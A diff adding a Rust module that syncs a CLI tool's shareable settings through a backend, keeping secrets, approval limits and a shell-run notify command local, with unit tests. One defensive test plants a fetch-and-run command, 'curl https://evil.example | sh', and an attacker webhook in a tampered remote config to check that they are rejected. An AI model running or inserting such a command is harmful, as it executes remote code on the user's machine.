@@ -0,0 +1,463 @@
+//! `atlas configure sync` — share settings between machines through the
+//! backend (`/atlas-os/config`).
+//!
+//! Only the shareable part of the config travels: secrets ([`SECRET_KEYS`])
+//! are stripped before anything is sent, and machine-local keys
+//! ([`LOCAL_KEYS`]) are neither sent nor overwritten by a pull. The copy
+//! seen at the last push or pull is kept in the local database, so a pull
+//! can tell which fields were edited here since then.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use anyhow::Result;
+use serde::{Deserialize, Serialize};
+use serde_json::{Map, Value};
+use sha2::{Digest, Sha256};
+
+use crate::backend::BackendClient;
+use crate::config::{AppConfig, SECRET_KEYS};
+use crate::db::AtlasDb;
+use crate::error::{AtlasError, AtlasResult};
+use crate::output::ConfigFieldChange;
+
+/// Backend endpoint holding the user's shared config.
+pub const REMOTE_PATH: &str = "/atlas-os/config";
+
+/// Keys (and everything under them) that describe this machine rather than
+/// the user's preferences: the wallet and environment in use, which setup
+/// steps were answered here, log files, approval file paths and the
+/// network pinned by the active environment. Safety settings a pull could
+/// weaken stay local too.
+pub const LOCAL_KEYS: &[&str] = &[
+    "system.active_profile",
+    "system.active_env",
+    "system.setup_steps",
+    "system.log",
+    "security.approval_file",
+    // A pulled config must not be able to add a transfer destination,
+    // or raise the second-approval threshold
+    "security.whitelist",
+    "security.transfer_confirm_above",
+    "security.transfer_confirm_method",
+    // Run through `sh -c` by `notify watch`
+    "notify.exec",
+    "modules.hyperliquid.config.network",
+];
+
+/// `sync_state` row holding the last synced [`SyncState`].
+const STATE_KEY: &str = "config_sync";
+
+/// The config as it is synced: secrets and machine-local keys removed.
+pub fn shareable(config: &AppConfig) -> Value {
+    let mut value = serde_json::to_value(config).expect("AppConfig serializes");
+    strip(&mut value);
+    value
+}
+
+/// Remove secrets and machine-local keys from a config value in place.
+pub fn strip(value: &mut Value) {
+    for key in SECRET_KEYS.iter().chain(LOCAL_KEYS) {
+        let (parent, leaf) = match key.rsplit_once('.') {
+            Some((parent, leaf)) => (
+                parent.split('.').try_fold(&mut *value, |v, p| v.get_mut(p)),
+                leaf,
+            ),
+            None => (Some(&mut *value), *key),
+        };
+        if let Some(Value::Object(map)) = parent {
+            map.remove(leaf);
+        }
+    }
+}
+
+/// Stable SHA-256 fingerprint of a shareable config, independent of key
+/// order.
+pub fn fingerprint(shared: &Value) -> String {
+    let mut hasher = Sha256::new();
+    for (path, value) in leaves(shared) {
+        hasher.update(serde_json::to_string(&path).expect("path serializes"));
+        hasher.update(b"=");
+        hasher.update(value.to_string());
+        hasher.update(b"\n");
+    }
+    hex::encode(hasher.finalize())
+}
+
+/// Fields whose value differs between two shareable configs, by dotted key.
+/// A side that lacks the field has `None`.
+pub fn diff(local: &Value, remote: &Value) -> Vec<ConfigFieldChange> {
+    let local = leaves(local);
+    let remote = leaves(remote);
+    let paths: BTreeSet<&Vec<String>> = local.keys().chain(remote.keys()).collect();
+    paths
+        .into_iter()
+        .filter(|path| local.get(*path) != remote.get(*path))
+        .map(|path| ConfigFieldChange {
+            key: path.join("."),
+            local: local.get(path).cloned(),
+            remote: remote.get(path).cloned(),
+        })
+        .collect()
+}
+
+/// Result of a field-wise [`merge`].
+#[derive(Debug, Clone, PartialEq)]
+pub struct Merged {
+    pub value: Value,
+    /// Remote values taken for fields left alone here since the last sync.
+    pub taken: Vec<String>,
+    /// Fields changed both here and remotely; the local value was kept.
+    pub conflicts: Vec<String>,
+}
+
+/// Three-way merge against `base`, the copy from the last sync: the remote
+/// value wins only for fields that still have their `base` value here.
+/// Fields edited locally keep the local value, and are reported as
+/// conflicts when the remote changed them too. With no `base`, every
+/// differing field counts as a local edit.
+pub fn merge(base: Option<&Value>, local: &Value, remote: &Value) -> Merged {
+    let base = base.map(leaves).unwrap_or_default();
+    let mut merged = leaves(local);
+    let remote = leaves(remote);
+    let paths: BTreeSet<Vec<String>> = merged.keys().chain(remote.keys()).cloned().collect();
+
+    let (mut taken, mut conflicts) = (Vec::new(), Vec::new());
+    for path in paths {
+        let (l, r, b) = (merged.get(&path), remote.get(&path), base.get(&path));
+        if l == r {
+            continue;
+        }
+        if l == b && !base.is_empty() {
+            match r {
+                Some(r) => merged.insert(path.clone(), r.clone()),
+                None => merged.remove(&path),
+            };
+            taken.push(path.join("."));
+        } else if r != b || base.is_empty() {
+            conflicts.push(path.join("."));
+        }
+    }
+    Merged {
+        value: build(merged),
+        taken,
+        conflicts,
+    }
+}
+
+/// `config` with its shareable settings replaced by `shared`. Secrets and
+/// machine-local keys keep their current values, whatever `shared` holds.
+pub fn apply(config: &AppConfig, shared: &Value) -> Result<AppConfig, serde_json::Error> {
+    let current = serde_json::to_value(config)?;
+    let mut next = shared.clone();
+    strip(&mut next);
+    let mut next = leaves(&next);
+    for (path, value) in leaves(&current) {
+        let key = path.join(".");
+        let kept = SECRET_KEYS
+            .iter()
+            .chain(LOCAL_KEYS)
+            .any(|k| key == *k || key.starts_with(&format!("{k}.")));
+        if kept {
+            next.insert(path, value);
+        }
+    }
+    serde_json::from_value(build(next))
+}
+
+/// Leaf values by path. Empty objects count as leaves so they survive a
+/// round trip through [`build`].
+fn leaves(value: &Value) -> BTreeMap<Vec<String>, Value> {
+    fn walk(value: &Value, path: &mut Vec<String>, out: &mut BTreeMap<Vec<String>, Value>) {
+        match value {
+            Value::Object(map) if !map.is_empty() => {
+                for (k, v) in map {
+                    path.push(k.clone());
+                    walk(v, path, out);
+                    path.pop();
+                }
+            }
+            v => {
+                out.insert(path.clone(), v.clone());
+            }
+        }
+    }
+    let mut out = BTreeMap::new();
+    walk(value, &mut Vec::new(), &mut out);
+    out
+}
+
+/// Inverse of [`leaves`].
+fn build(leaves: BTreeMap<Vec<String>, Value>) -> Value {
+    let mut root = Value::Object(Map::new());
+    for (path, value) in leaves {
+        let Some((leaf, parents)) = path.split_last() else {
+            root = value;
+            continue;
+        };
+        let mut node = &mut root;
+        for part in parents {
+            if !node.is_object() {
+                *node = Value::Object(Map::new());
+            }
+            node = node
+                .as_object_mut()
+                .expect("just made an object")
+                .entry(part.clone())
+                .or_insert_with(|| Value::Object(Map::new()));
+        }
+        if !node.is_object() {
+            *node = Value::Object(Map::new());
+        }
+        node.as_object_mut()
+            .expect("just made an object")
+            .insert(leaf.clone(), value);
+    }
+    root
+}
+
+// ═══════════════════════════════════════════════════════════════════════
+//  SYNC STATE — what this machine last pushed or pulled
+// ═══════════════════════════════════════════════════════════════════════
+
+/// The remote version and shareable config as of the last push or pull.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct SyncState {
+    pub version: i64,
+    /// [`fingerprint`] of `snapshot`.
+    pub hash: String,
+    pub snapshot: Value,
+}
+
+impl SyncState {
+    pub fn new(version: i64, snapshot: Value) -> Self {
+        Self {
+            version,
+            hash: fingerprint(&snapshot),
+            snapshot,
+        }
+    }
+
+    /// `None` if this machine never synced (or the stored state is unreadable).
+    pub fn load(db: &AtlasDb) -> Result<Option<Self>> {
+        Ok(db
+            .get_sync_state(STATE_KEY)?
+            .and_then(|raw| serde_json::from_str(&raw).ok()))
+    }
+
+    pub fn save(&self, db: &AtlasDb) -> Result<()> {
+        db.set_sync_state(STATE_KEY, &serde_json::to_string(self)?)
+    }
+
+    /// Do the local shareable settings differ from the last synced copy?
+    pub fn modified(&self, local: &Value) -> bool {
+        fingerprint(local) != self.hash
+    }
+}
+
+// ═══════════════════════════════════════════════════════════════════════
+//  REMOTE — GET/PUT /atlas-os/config
+// ═══════════════════════════════════════════════════════════════════════
+
+/// The config stored on the backend.
+#[derive(Debug, Clone, Deserialize)]
+pub struct RemoteConfig {
+    pub config: Value,
+    pub version: i64,
+    pub updated_at: String,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+struct PushResponse {
+    version: i64,
+}
+
+/// The stored config, or `None` before the first push.
+pub async fn fetch(client: &BackendClient) -> AtlasResult<Option<RemoteConfig>> {
+    match client.get_optional(REMOTE_PATH, &[]).await? {
+        None => Ok(None),
+        Some(body) => serde_json::from_value(body)
+            .map(Some)
+            .map_err(|e| AtlasError::Protocol {
+                protocol: "atlas-backend".into(),
+                message: format!("Unexpected config response: {e}"),
+            }),
+    }
+}
+
+/// Store `shared` remotely if the remote is still at `base_version` (0 when
+/// nothing was pushed yet). Returns the new version, or `None` if another
+/// machine pushed in between. Secrets are stripped again here, so nothing
+/// but a [`shareable`] value can leave the machine.
+pub async fn push(
+    client: &BackendClient,
+    shared: &Value,
+    base_version: i64,
+) -> AtlasResult<Option<i64>> {
+    let body = push_body(shared, base_version);
+    let Some(resp) = client.put(REMOTE_PATH, &body).await? else {
+        return Ok(None);
+    };
+    let resp: PushResponse = serde_json::from_value(resp).map_err(|e| AtlasError::Protocol {
+        protocol: "atlas-backend".into(),
+        message: format!("Unexpected config response: {e}"),
+    })?;
+    Ok(Some(resp.version))
+}
+
+fn push_body(shared: &Value, base_version: i64) -> Value {
+    let mut config = shared.clone();
+    strip(&mut config);
+    serde_json::json!({"config": config, "base_version": base_version})
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn config() -> AppConfig {
+        let mut config = AppConfig::default();
+        config.system.api_key = Some("atl_1234567890abcdef".into());
+        config.notify.secret = Some("whsec_abc".into());
+        config.system.active_profile = "laptop".into();
+        config.trading.max_notional = Some(5000.0);
+        config
+    }
+
+    #[test]
+    fn test_pushed_payload_has_no_secrets() {
+        let shared = shareable(&config());
+        let body = push_body(&shared, 3);
+        let text = body.to_string();
+
+        assert!(body.pointer("/config/system/api_key").is_none());
+        assert!(body.pointer("/config/notify/secret").is_none());
+        assert!(!text.contains("atl_1234567890abcdef"));
+        assert!(!text.contains("whsec_abc"));
+        assert!(body.pointer("/config/system/active_profile").is_none());
+        assert_eq!(body["config"]["trading"]["max_notional"], json!(5000.0));
+        assert_eq!(body["base_version"], 3);
+
+        // Even a value that was never run through `shareable`
+        let raw = serde_json::to_value(config()).unwrap();
+        assert!(push_body(&raw, 0)
+            .pointer("/config/system/api_key")
+            .is_none());
+    }
+
+    #[test]
+    fn test_fingerprint_ignores_key_order() {
+        let a = json!({"a": 1, "b": {"c": true, "d": "x"}});
+        let b = json!({"b": {"d": "x", "c": true}, "a": 1});
+        assert_eq!(fingerprint(&a), fingerprint(&b));
+        assert_ne!(
+            fingerprint(&a),
+            fingerprint(&json!({"a": 2, "b": {"c": true, "d": "x"}}))
+        );
+    }
+
+    #[test]
+    fn test_diff_lists_changed_added_and_removed_fields() {
+        let local = json!({"trading": {"confirm": true, "max_notional": 100}, "tui": {"keys": {}}});
+        let remote = json!({"trading": {"confirm": false, "max_notional": 100}, "x": 1});
+        let changes = diff(&local, &remote);
+        let keys: Vec<&str> = changes.iter().map(|c| c.key.as_str()).collect();
+        assert_eq!(keys, ["trading.confirm", "tui.keys", "x"]);
+        assert_eq!(changes[0].local, Some(json!(true)));
+        assert_eq!(changes[0].remote, Some(json!(false)));
+        assert_eq!(changes[1].remote, None);
+        assert_eq!(changes[2].local, None);
+    }
+
+    #[test]
+    fn test_merge_takes_remote_only_for_untouched_fields() {
+        let base = json!({"a": 1, "b": 1, "c": 1, "d": 1});
+        // a: unchanged here → remote wins; b: edited here only → kept;
+        // c: edited on both sides → conflict, local kept; d: removed remotely
+        let local = json!({"a": 1, "b": 2, "c": 2, "d": 1});
+        let remote = json!({"a": 5, "b": 1, "c": 3});
+        let merged = merge(Some(&base), &local, &remote);
+        assert_eq!(merged.value, json!({"a": 5, "b": 2, "c": 2}));
+        assert_eq!(merged.taken, ["a", "d"]);
+        assert_eq!(merged.conflicts, ["c"]);
+
+        // Never synced: nothing is known to be untouched
+        let merged = merge(None, &local, &remote);
+        assert_eq!(merged.value, local);
+        assert_eq!(merged.conflicts, ["a", "b", "c", "d"]);
+    }
+
+    #[test]
+    fn test_apply_keeps_secrets_and_local_keys() {
+        let local = config();
+        let mut other = AppConfig::default();
+        other.trading.max_notional = Some(250.0);
+        other.modules.hyperliquid.config.default_leverage = 7;
+        let mut remote = serde_json::to_value(&other).unwrap();
+        // A tampered remote still can't set secrets or machine-local keys
+        remote["system"]["api_key"] = json!("atl_evil");
+        remote["system"]["active_profile"] = json!("someone-else");
+
+        let next = apply(&local, &remote).unwrap();
+        assert_eq!(next.trading.max_notional, Some(250.0));
+        assert_eq!(next.modules.hyperliquid.config.default_leverage, 7);
+        assert_eq!(next.system.api_key.as_deref(), Some("atl_1234567890abcdef"));
+        assert_eq!(next.notify.secret.as_deref(), Some("whsec_abc"));
+        assert_eq!(next.system.active_profile, "laptop");
+        assert_eq!(shareable(&next), shareable(&other));
+    }
+
+    #[test]
+    fn test_pull_cannot_set_commands_or_weaken_approvals() {
+        let mut local = config();
+        local.notify.exec = Some("notify-send atlas".into());
+        local.notify.webhook = Some("https://hooks.slack.com/services/T0/B0/xyz".into());
+        local.security.transfer_confirm_above = Some(1000.0);
+        let mut remote = serde_json::to_value(&local).unwrap();
+        remote["notify"]["exec"] = json!("curl https://evil.example | sh");
+        remote["notify"]["webhook"] = json!("https://evil.example/hook");
+        remote["security"]["transfer_confirm_above"] = json!(1_000_000.0);
+        remote["security"]["transfer_confirm_method"] = json!("file");
+
+        let next = apply(&local, &remote).unwrap();
+        assert_eq!(next.notify.exec.as_deref(), Some("notify-send atlas"));
+        assert_eq!(
+            next.notify.webhook.as_deref(),
+            Some("https://hooks.slack.com/services/T0/B0/xyz")
+        );
+        assert_eq!(next.security.transfer_confirm_above, Some(1000.0));
+        assert_eq!(
+            next.security.transfer_confirm_method,
+            local.security.transfer_confirm_method
+        );
+
+        // Nor do they leave with a push
+        let body = push_body(&shareable(&local), 1);
+        assert!(body.pointer("/config/notify/exec").is_none());
+        assert!(body.pointer("/config/notify/webhook").is_none());
+        assert!(body
+            .pointer("/config/security/transfer_confirm_above")
+            .is_none());
+    }
+
+    #[test]
+    fn test_sync_state_round_trip() {
+        let db = AtlasDb::open_in_memory().unwrap();
+        assert!(SyncState::load(&db).unwrap().is_none());
+        let shared = shareable(&config());
+        let state = SyncState::new(4, shared.clone());
+        state.save(&db).unwrap();
+
+        let loaded = SyncState::load(&db).unwrap().unwrap();
+        assert_eq!(loaded, state);
+        assert!(!loaded.modified(&shared));
+        let mut edited = config();
+        edited.trading.confirm = false;
+        assert!(loaded.modified(&shareable(&edited)));
+        // Secrets and local keys don't count as modifications
+        let mut rekeyed = config();
+        rekeyed.system.api_key = None;
+        rekeyed.system.active_profile = "desktop".into();
+        assert!(!loaded.modified(&shareable(&rekeyed)));
+    }
+}